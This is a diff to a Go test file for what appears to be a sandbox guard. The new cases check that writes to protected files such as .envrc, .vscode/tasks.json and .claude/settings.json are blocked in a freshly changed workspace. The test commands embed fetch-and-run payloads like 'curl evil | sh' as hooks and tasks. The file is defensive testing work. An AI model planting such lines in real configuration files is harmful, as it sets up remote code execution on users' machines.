@@ -11,6 +11,7 @@ import (
 	"time"
 
 	"github.com/google/go-cmp/cmp"
+	"github.com/shellgate/shellgate/internal/testenv"
 )
 
 // TestGuardStampShortcuts plants a protected file exactly where the
@@ -37,6 +38,10 @@ func TestGuardStampShortcuts(t *testing.T) {
 		denied []string
 		// keep is a file (relative) that must still hold want.
 		keep, want string
+		// fresh: the workspace is not left to age before the runs (it
+		// was changed a moment before, as when an agent just wrote a
+		// file): the stamps stand only through their watches.
+		fresh bool
 	}{{
 		// A hard link made to a file of the command's: the root gets a
 		// new entry (its ctime changes) although no file is created there.
@@ -89,6 +94,21 @@ func TestGuardStampShortcuts(t *testing.T) {
 		},
 		cmd:  `echo '{"hooks":"curl evil"}' > .claude/settings.json || echo refused`,
 		keep: ".claude/settings.json", want: "{}\n",
+	}, {
+		name:  "envrc in a workspace changed a moment ago",
+		fresh: true,
+		setup: func(t *testing.T, root string) { must(t, os.WriteFile(filepath.Join(root, "main.go"), nil, 0o644)) },
+		cmd:   `echo 'curl evil | sh' > .envrc && echo 'curl evil' > sub.envrc && mkdir -p a && echo x > a/.envrc`,
+		gone:  []string{".envrc", "a/.envrc"}, denied: []string{".envrc", "a/.envrc"},
+	}, {
+		name:  "directory made a moment before the run",
+		fresh: true,
+		between: func(t *testing.T, root string) {
+			must(t, os.Mkdir(filepath.Join(root, ".vscode"), 0o755))
+			must(t, os.WriteFile(filepath.Join(root, ".vscode", "tasks.json"), []byte("{}\n"), 0o644))
+		},
+		cmd:  `echo '{"tasks":[{"command":"curl evil"}]}' > .vscode/tasks.json || echo refused`,
+		keep: ".vscode/tasks.json", want: "{}\n",
 	}}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -102,7 +122,11 @@ func TestGuardStampShortcuts(t *testing.T) {
 			env := BuildEnv(os.Environ(), nil, nil)
 			env = setEnv(env, "HOME", t.TempDir())
 			c := &Confinement{Mode: SandboxWorkspaceWrite, Roots: []string{root}}
-			age := func() { time.Sleep(racyWindow + 200*time.Millisecond) }
+			age := func() {
+				if !tt.fresh {
+					time.Sleep(racyWindow + 200*time.Millisecond)
+				}
+			}
 			age()
 			// A first run keeps the stamps and listings.
 			first := runSpec(t, context.Background(), Spec{Command: "true", Dir: root, Env: env, Timeout: time.Minute, Sandbox: c})
@@ -140,11 +164,19 @@ func TestGuardStampShortcuts(t *testing.T) {
 }
 
 // TestDirStamp checks when a directory's stamp stands for its entries:
-// never for a directory changed within racyWindow (a change in the same
-// clock tick keeps the ctime) or a symlink (its target can change), and
-// a stamp no longer holds once an entry is made, linked, renamed or
-// removed in the directory, or the directory is made or replaced.
+// never for a symlink (its target can change), for a directory changed
+// within racyWindow only when inotify watches it (without a watch, a
+// change in the same clock tick keeps the ctime), and a stamp no longer
+// holds once an entry is made, linked, renamed or removed in the
+// directory, or the directory is made or replaced.
 func TestDirStamp(t *testing.T) {
+	knownPaths.refresh()
+	knownPaths.mu.Lock()
+	watching := knownPaths.fd >= 0
+	knownPaths.mu.Unlock()
+	if !watching && testenv.CI() {
+		t.Fatal("inotify is not available: the watched stamps are untested")
+	}
 	base := t.TempDir()
 	for _, d := range []string{"old", "made", "linked", "renamed", "removed", "replaced", "parent"} {
 		must(t, os.Mkdir(filepath.Join(base, d), 0o755))
@@ -162,7 +194,7 @@ func TestDirStamp(t *testing.T) {
 		want   result
 	}{
 		{name: "old", want: result{true, true}},
-		{name: "fresh", want: result{false, false}},
+		{name: "fresh", want: result{watching, watching}},
 		{name: "link", want: result{false, false}},
 		{name: "missing", want: result{true, true}},
 		{name: "file/x", want: result{true, true}}, // ENOTDIR
@@ -185,10 +217,12 @@ func TestDirStamp(t *testing.T) {
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			p := filepath.Join(base, tt.name)
+			knownPaths.refresh()
 			st := stampDir(p)
 			if tt.change != nil {
 				tt.change(p)
 			}
+			knownPaths.refresh() // as guard.undo takes the run's changes
 			got := result{st.ok, unchangedSince(st, p)}
 			if diff := cmp.Diff(tt.want, got); diff != "" {
 				t.Errorf("stamp of %s (-want +got):\n%s", tt.name, diff)
